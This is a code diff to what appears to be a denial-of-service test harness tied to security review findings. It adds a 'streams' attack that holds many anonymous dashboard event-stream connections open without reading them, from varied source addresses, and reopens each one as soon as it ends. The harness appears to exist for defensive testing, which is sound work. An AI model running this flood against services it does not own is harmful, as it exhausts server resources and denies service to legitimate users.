@@ -16,6 +16,8 @@ Attacks (review finding in brackets):
   pings       N sessions sending ping frames as fast as the socket takes them [L5]
   volunteers  PUT /api/v1/volunteers/me with a fresh identity, as fast as answered [H6]
   tokens      API requests with random bearer tokens, as fast as answered [L2]
+  streams     N anonymous dashboard event streams held open and never read, reopened as
+              soon as one ends or is refused [M2]
 """
 
 import argparse
@@ -265,7 +267,41 @@ async def tokens(url, n, prefix, stats):
     await http_flood(url, n, prefix, stats, get)
 
 
+async def streams(url, n, prefix, stats):
+    parts = urllib.parse.urlsplit(url)
+    request = (f"GET /api/v1/dashboard/events HTTP/1.1\r\nHost: {parts.netloc}\r\n"
+               "Accept: text/event-stream\r\n\r\n").encode()
+
+    async def one(source: str) -> None:
+        while True:
+            try:
+                reader, writer = await asyncio.open_connection(
+                    parts.hostname, parts.port, local_addr=(source, 0))
+                stats.connections += 1
+                writer.write(request)
+                await writer.drain()
+                status = (await reader.readline()).decode(errors="replace").split(" ")
+                code = status[1] if len(status) > 1 else "closed"
+                stats.error(code)
+                if code == "200":
+                    # Hold the stream and never read it: the master's writes fill the socket.
+                    while not reader.at_eof():
+                        await asyncio.sleep(5)
+                        if writer.is_closing():
+                            break
+                    stats.closed_by_master += 1
+                else:
+                    writer.close()
+                    await asyncio.sleep(1)
+            except OSError:
+                stats.closed_by_master += 1
+                await asyncio.sleep(0.5)
+
+    await asyncio.gather(*(one(s) for s in sources(prefix, n)))
+
+
 ATTACKS = {
+    "streams": (streams, "http"),
     "slowloris": (slowloris, "http"),
     "outbox": (outbox, "ws"),
     "hungry": (hungry, "ws"),
